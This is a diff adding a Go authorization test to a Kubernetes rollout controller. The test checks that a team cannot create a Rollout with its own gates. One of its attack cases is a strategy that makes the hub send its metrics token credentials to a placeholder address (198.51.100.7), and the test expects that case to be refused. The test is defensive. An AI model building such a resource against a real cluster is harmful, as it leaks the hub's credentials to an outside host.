@@ -3,6 +3,8 @@ package rolloutctl
 import (
 	"context"
 	"encoding/json"
+	"fmt"
+	"os"
 	"strings"
 	"testing"
 	"time"
@@ -15,6 +17,7 @@ import (
 	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/client-go/rest"
 	"sigs.k8s.io/controller-runtime/pkg/client"
+	"sigs.k8s.io/yaml"
 
 	fleetv1alpha1 "github.com/flotilla-dev/flotilla/api/v1alpha1"
 	"github.com/flotilla-dev/flotilla/internal/kube"
@@ -389,4 +392,131 @@ func TestModeVerbsArePlatformOnlyAndRecordTheCaller(t *testing.T) {
 			t.Errorf("%s: deadline %v not forced", name, got.Spec.UpdatePolicy.Deadline)
 		}
 	}
+}
+
+// A team given create on rollouts (the per-team how-to grants only patch,
+// but an operator may well add it) could create its instance's next Rollout
+// with its own gates: one wave, no approval, Immediate, or a hub metric check
+// whose credentials the hub would send to the team's address. Creating a
+// Rollout with its own strategy, strategyRef or a non-Progressive update
+// policy is the platform's, or the hub's, like changing them.
+func TestOnlyThePlatformCreatesARolloutWithItsOwnGates(t *testing.T) {
+	ctx := testContext(t)
+	_, platform, _, _ := actorsSetup(t, ctx)
+	admin := adminClient(t)
+	const creatorGroup = "team-actors-creators"
+	for _, o := range []client.Object{
+		&rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: "actors-rollout-creator", Namespace: actorsNS}, Rules: []rbacv1.PolicyRule{
+			{APIGroups: []string{fleetv1alpha1.Group}, Resources: []string{"rollouts"}, Verbs: []string{"get", "list", "watch", "create", "patch"}},
+		}},
+		&rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "actors-rollout-creator", Namespace: actorsNS},
+			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "Role", Name: "actors-rollout-creator"},
+			Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "Group", Name: creatorGroup}}},
+	} {
+		if err := admin.Create(ctx, o); err != nil && !apierrors.IsAlreadyExists(err) {
+			t.Fatal(err)
+		}
+	}
+	creatorCfg := rest.CopyConfig(hub.RESTConfig)
+	creatorCfg.Impersonate = rest.ImpersonationConfig{UserName: teamUser, Groups: []string{"team-actors", creatorGroup, "system:authenticated"}}
+	testenv.WaitAllowed(t, creatorCfg, authorizationv1.ResourceAttributes{Namespace: actorsNS, Verb: "create", Group: fleetv1alpha1.Group, Resource: "rollouts"})
+	creator, err := client.New(creatorCfg, client.Options{Scheme: kube.NewScheme()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	// The hub, with exactly the rights config/hub/rbac.yaml gives it.
+	hubCfg := rest.CopyConfig(hub.RESTConfig)
+	hubCfg.Impersonate = rest.ImpersonationConfig{UserName: grantHubRole(t, ctx), Groups: []string{"system:serviceaccounts", "system:authenticated"}}
+	testenv.WaitAllowed(t, hubCfg, authorizationv1.ResourceAttributes{Namespace: actorsNS, Verb: "create", Group: fleetv1alpha1.Group, Resource: "rollouts"})
+	hubClient, err := client.New(hubCfg, client.Options{Scheme: kube.NewScheme()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	teamRollout(t, ctx, "create-probe")
+	waitPolicy(t, ctx, creator, "create-probe")
+
+	newRollout := func(name string, edit func(*fleetv1alpha1.Rollout)) *fleetv1alpha1.Rollout {
+		r := &fleetv1alpha1.Rollout{
+			ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: actorsNS},
+			Spec: fleetv1alpha1.RolloutSpec{
+				Subject:        fleetv1alpha1.RolloutSubject{Promise: "app", Instance: &fleetv1alpha1.LocalObjectReference{Name: "db"}},
+				FromRevision:   "db-r2",
+				TargetRevision: "db-r3",
+			},
+		}
+		if edit != nil {
+			edit(r)
+		}
+		t.Cleanup(func() { _ = admin.Delete(context.Background(), r) })
+		return r
+	}
+	exfiltrate := &fleetv1alpha1.RolloutStrategySpec{
+		Waves: []fleetv1alpha1.Wave{{Name: "all", Selector: &metav1.LabelSelector{}}},
+		Checks: []fleetv1alpha1.Check{{Name: "steal", Metric: &fleetv1alpha1.MetricCheck{
+			Placement: fleetv1alpha1.CheckOnHub, Address: "http://198.51.100.7:9090", Query: "up",
+			CredentialsRef: &fleetv1alpha1.SecretReference{Name: "thanos-token"},
+		}, Condition: "true"}},
+	}
+	attacks := []struct {
+		what string
+		edit func(*fleetv1alpha1.Rollout)
+	}{
+		{"one wave, no approval, and the hub's metrics token sent to the team", func(r *fleetv1alpha1.Rollout) { r.Spec.Strategy = exfiltrate.DeepCopy() }},
+		{"a strategyRef the Promise does not name", func(r *fleetv1alpha1.Rollout) {
+			r.Spec.StrategyRef = &fleetv1alpha1.LocalObjectReference{Name: "yolo"}
+		}},
+		{"Immediate", func(r *fleetv1alpha1.Rollout) {
+			r.Spec.UpdatePolicy = fleetv1alpha1.UpdatePolicy{Mode: fleetv1alpha1.UpdateModeImmediate, Reason: "now"}
+		}},
+	}
+	for i, a := range attacks {
+		wantRefused(t, "team creates: "+a.what, creator.Create(ctx, newRollout(fmt.Sprintf("team-gates-%d", i), a.edit)),
+			"only the platform may create a Rollout with its own strategy")
+	}
+
+	// What the team may create: a Rollout of its instance under the
+	// platform's gates (the Promise's strategy, Progressive).
+	wantAccepted(t, "team creates under the Promise's gates", creator.Create(ctx, newRollout("team-plain", nil)))
+	// The platform and the hub set gates when they create.
+	wantAccepted(t, "platform creates with an inline strategy", platform.Create(ctx, newRollout("platform-gates", attacks[0].edit)))
+	wantAccepted(t, "hub creates Immediate with a strategyRef", hubClient.Create(ctx, newRollout("hub-gates", func(r *fleetv1alpha1.Rollout) {
+		attacks[1].edit(r)
+		attacks[2].edit(r)
+	})))
+}
+
+// grantHubRole binds the hub's ClusterRole, read from config/hub/rbac.yaml
+// (under another name), to a service account user and returns its name.
+func grantHubRole(t *testing.T, ctx context.Context) string {
+	t.Helper()
+	b, err := os.ReadFile("../../config/hub/rbac.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var role rbacv1.ClusterRole
+	for _, doc := range strings.Split(string(b), "\n---") {
+		var r rbacv1.ClusterRole
+		if err := yaml.Unmarshal([]byte(doc), &r); err != nil {
+			t.Fatal(err)
+		}
+		if r.Kind == "ClusterRole" && r.Name == "flotilla-hub" {
+			role = r
+		}
+	}
+	if len(role.Rules) == 0 {
+		t.Fatal("no ClusterRole flotilla-hub in config/hub/rbac.yaml")
+	}
+	const user = "system:serviceaccount:flotilla-system:actors-hub"
+	admin := adminClient(t)
+	for _, o := range []client.Object{
+		&rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "actors-hub"}, Rules: role.Rules},
+		&rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "actors-hub"},
+			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "actors-hub"},
+			Subjects: []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: "User", Name: user}}},
+	} {
+		if err := admin.Create(ctx, o); err != nil && !apierrors.IsAlreadyExists(err) {
+			t.Fatal(err)
+		}
+	}
+	return user
 }
